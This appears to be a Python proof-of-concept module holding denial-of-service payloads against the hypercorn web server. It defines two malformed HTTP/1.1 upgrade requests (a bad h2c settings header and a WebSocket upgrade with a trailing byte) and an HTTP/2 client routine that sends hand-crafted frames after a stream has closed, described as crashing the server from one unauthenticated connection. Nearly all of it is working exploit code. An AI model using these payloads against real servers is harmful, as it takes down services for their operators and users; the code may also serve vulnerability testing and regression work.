"""Bytes that end an unguarded hypercorn, each the work of one connection without a login."""

from __future__ import annotations

from typing import TYPE_CHECKING

import h2.config
import h2.connection
import h2.events

if TYPE_CHECKING:
    import trio

BAD_SETTINGS = (
    b"GET / HTTP/1.1\r\nHost: x\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: A\r\n\r\n"
)
"""An upgrade to HTTP/2 whose settings are not base64."""

TRAILING_BYTE = (
    b"GET / HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
    b"Sec-WebSocket-Key: bKdPyn3u98cTfZJSh4TNeQ==\r\n\r\nx"
)
"""A WebSocket upgrade with a byte behind it."""


async def send_data_after_the_answer(stream: trio.SocketStream, path: str) -> None:
    """Speak HTTP/2 with prior knowledge; keep sending a body whose request is answered, until the server hangs up.

    The server has one octet of each body acknowledged before the next is sent, so it meets the octet that comes after
    it has forgotten the stream; no timing is involved.
    """
    connection = h2.connection.H2Connection()
    connection.initiate_connection()
    headers = [(":method", "POST"), (":path", path), (":scheme", "http"), (":authority", "x")]
    connection.send_headers(1, headers)
    await stream.send_all(connection.data_to_send())
    answered = False
    while True:
        data = await stream.receive_some()
        if not data:
            return
        events = connection.receive_data(data)
        answered = answered or any(isinstance(event, h2.events.StreamEnded) for event in events)
        if answered:
            connection.clear_outbound_data_buffer()
            # By hand, because the library forgets the stream as soon as it is closed by both.
            await stream.send_all(
                b"\x00\x00\x01\x00\x00\x00\x00\x00\x01x" + b"\x00\x00\x08\x06\x00\x00\x00\x00\x00pingpong"
            )
        else:
            await stream.send_all(connection.data_to_send())


__all__ = ["BAD_SETTINGS", "TRAILING_BYTE", "send_data_after_the_answer"]
